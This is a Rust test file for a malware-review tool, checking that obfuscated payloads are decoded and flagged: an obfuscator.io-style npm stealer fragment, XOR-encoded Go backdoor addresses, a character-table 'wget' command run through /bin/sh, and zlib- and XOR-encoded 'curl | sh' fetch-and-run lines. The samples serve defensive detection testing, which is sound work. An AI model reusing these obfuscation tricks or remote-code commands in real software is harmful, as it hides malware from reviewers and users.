//! Obfuscator output and encodings seen through end to end (issue 14): a finding over a region
//! (obfuscator.io output), byte arrays decoded with a constant XOR key, compressed payloads.

mod common;

use common::Repo;
use serde_json::Value;

/// The obfuscator.io shape of an npm stealer (Socket's and Phylum's write-ups of BeaverTail loaders):
/// the string array, the rotation and the decoder over ten lines, then plain code, then a lookup.
const OBFUSCATED: &str = "const _0x4a2b = ['cmVxdWVzdA==', 'aG9tZWRpcg=='];
(function (_0x2d8f05, _0x4b81bb) {
  const _0x4d74cb = function (_0x32719f) {
    while (--_0x32719f) {
      _0x2d8f05['push'](_0x2d8f05['shift']());
    }
  };
  _0x4d74cb(++_0x4b81bb);
})(_0x4a2b, 0x1b3);
const _0x1e6c = function (_0x2d8f05) { return Buffer.from(_0x4a2b[_0x2d8f05], 'base64').toString(); };
const os = require('os');
while (!![]) { break; }
const hd = os[_0x1e6c(1)]();
";

fn reviewed(files: &[(&str, &str)], format: &str) -> common::Run {
    let repo = Repo::new();
    repo.commit("base");
    for (path, text) in files {
        repo.write(path, text);
    }
    repo.commit("change");
    repo.run(&["diff", "HEAD~1", "--format", format, "--fail-on", "never"])
}

fn finding<'a>(json: &'a Value, check: &str) -> &'a Value {
    json["findings"]
        .as_array()
        .unwrap()
        .iter()
        .find(|f| f["check"] == check)
        .unwrap_or_else(|| panic!("no {check} in {json:#}"))
}

#[test]
fn obfuscator_io_output_is_reported_over_its_region() {
    let json = reviewed(&[("lib/caller.js", OBFUSCATED)], "json").json();
    let f = finding(&json, "attack.obfuscation.obfuscator-io");
    assert_eq!(f["line"], 1, "{f:#}");
    assert_eq!(f["end_line"], 13, "{f:#}");
    assert!(f["snippet"].as_str().unwrap().starts_with("const _0x4a2b"));

    let sarif: Value =
        serde_json::from_str(&reviewed(&[("lib/caller.js", OBFUSCATED)], "sarif").stdout).unwrap();
    let result = sarif["runs"][0]["results"]
        .as_array()
        .unwrap()
        .iter()
        .find(|r| r["ruleId"] == "attack.obfuscation.obfuscator-io")
        .unwrap();
    let region = &result["locations"][0]["physicalLocation"]["region"];
    assert_eq!(region["startLine"], 1);
    assert_eq!(region["endLine"], 13);
    assert!(region.get("endColumn").is_none(), "{region:#}");

    let text = reviewed(&[("lib/caller.js", OBFUSCATED)], "text").stdout;
    assert!(text.contains("(lines 1–13)"), "{text}");
}

#[test]
fn a_one_line_finding_has_no_end_line() {
    let json = reviewed(&[("a.py", "import os\nos.system(cmd)\n")], "json").json();
    let f = finding(&json, "exec.python.os-system");
    assert!(f.get("end_line").is_none(), "{f:#}");
}

/// Text of every finding of `check` (message), for assertions on what a decode says.
fn messages(json: &Value, check: &str) -> Vec<String> {
    json["findings"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|f| f["check"] == check)
        .map(|f| f["message"].as_str().unwrap().to_string())
        .collect()
}

#[test]
fn a_go_address_xor_decoded_at_run_time_is_reported_with_its_key() {
    // 203.0.113.47:4444 XOR 0x5a, decoded by a loop (the boltdb-go backdoor's shape).
    let go = "package bolt\n\nfunc decode(parts []int) string {\n\tb := make([]byte, len(parts))\n\tfor i, p := range parts {\n\t\tb[i] = byte(p ^ 0x5a)\n\t}\n\treturn string(b)\n}\n\nvar addr = decode([]int{104, 106, 105, 116, 106, 116, 107, 107, 105, 116, 110, 109, 96, 110, 110, 110, 110})\n";
    let json = reviewed(&[("db.go", go)], "json").json();
    let f = finding(&json, "attack.obfuscation.encoded-name");
    assert_eq!(f["line"], 11);
    assert_eq!(f["severity"], "error");
    assert!(
        f["message"].as_str().unwrap().contains("203.0.113.47:4444"),
        "{f:#}"
    );
    assert_eq!(
        f["parts"][0]["line"], 6,
        "the XOR key's line is a part: {f:#}"
    );
}

#[test]
fn a_command_joined_from_a_character_table_is_decoded_and_reviewed() {
    let go = "package lru\n\nimport \"os/exec\"\n\nfunc warm() {\n\tt := []string{\"w\", \"g\", \"e\", \"t\", \" \", \"-\", \"O\", \"h\", \"p\", \"s\", \":\", \"/\", \"x\", \".\", \"i\", \"n\", \"v\", \"a\", \"l\", \"d\", \"|\", \"b\"}\n\tc := t[0] + t[1] + t[2] + t[3] + t[4] + t[5] + t[6] + t[4] + t[5]\n\texec.Command(\"/bin/sh\", \"-c\", c).Start()\n}\n";
    let json = reviewed(&[("lru.go", go)], "json").json();
    let f = finding(&json, "attack.obfuscation.char-table");
    assert_eq!(
        (f["line"].as_u64(), f["severity"].as_str()),
        (Some(7), Some("error"))
    );
    assert!(
        f["message"].as_str().unwrap().contains("`wget -O -`"),
        "{f:#}"
    );
    assert_eq!(f["parts"][0]["line"], 6);
}

#[test]
fn a_zlib_payload_is_inflated_and_its_text_reviewed() {
    // zlib of "import os\nos.system('curl -s http://198.51.100.9/s.sh | sh')\n", base64-encoded.
    let py = "import base64, zlib\nexec(zlib.decompress(base64.b64decode(\"eJzLzC3ILypRyC/myi/WK64sLknN1VBPLi3KUdAtVsgoKSmw0tc3tLTQMzXUMzQw0LPUB6rKUKhRKM5Q1+QCAHqdEpI=\")))\n";
    let json = reviewed(&[("pkg/__init__.py", py)], "json").json();
    assert_eq!(
        finding(&json, "attack.obfuscation.exec-compressed")["severity"],
        "error"
    );
    let inflated: Vec<String> = json["findings"]
        .as_array()
        .unwrap()
        .iter()
        .filter_map(|f| f["decoded"].as_str().map(str::to_string))
        .collect();
    assert!(
        inflated
            .iter()
            .any(|d| d.contains("curl -s http://198.51.100.9/s.sh | sh")),
        "{json:#}"
    );
    assert!(messages(&json, "exec.python.os-system")
        .iter()
        .any(|m| m.contains("zlib-compressed inside base64")));
}

#[test]
fn decompressing_data_and_xor_with_masks_stay_quiet() {
    let py = "import zlib\n\ndef body(r):\n    return zlib.decompress(r.content)\n\nMAGIC = bytes([137, 80, 78, 71, 13, 10, 26, 10])\n\ndef fold(c):\n    return c ^ 0x20\n\nHELLO = [72, 101, 108, 108, 111, 44, 32, 119, 111, 114, 108, 100]\n";
    let js = "const zlib = require('zlib');\nconst body = zlib.gunzipSync(buf).toString('utf8');\nconst out = frame.map((b, i) => b ^ mask[i % 4]);\n";
    let json = reviewed(&[("lib/fetch.py", py), ("lib/inflate.js", js)], "json").json();
    let loud: Vec<&Value> = json["findings"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|f| f["severity"] != "note")
        .collect();
    assert!(loud.is_empty(), "{loud:#?}");
}

#[test]
fn a_decoder_call_as_a_module_name_is_an_error() {
    let json = reviewed(&[("lib/caller.js", OBFUSCATED)], "json").json();
    let f = finding(&json, "attack.obfuscation.decoder-name");
    assert_eq!(
        (f["line"].as_u64(), f["severity"].as_str()),
        (Some(13), Some("error"))
    );
}

#[test]
fn a_key_held_in_a_name_is_followed() {
    // `curl -s http://198.51.100.23/x | sh` XOR 42, the key in a named constant.
    let py = "import subprocess\n_k = 42\n_d = [73, 95, 88, 70, 10, 7, 89, 10, 66, 94, 94, 90, 16, 5, 5, 27, 19, 18, 4, 31, 27, 4, 27, 26, 26, 4, 24, 25, 5, 82, 10, 86, 10, 89, 66]\ncmd = ''.join(chr(c ^ _k) for c in _d)\n";
    let json = reviewed(&[("pkg/__init__.py", py)], "json").json();
    let f = finding(&json, "attack.obfuscation.xor-string");
    assert_eq!(f["line"], 3);
    assert!(f["message"].as_str().unwrap().contains("curl -s"), "{f:#}");
    assert_eq!(f["parts"][0]["line"], 4);
}
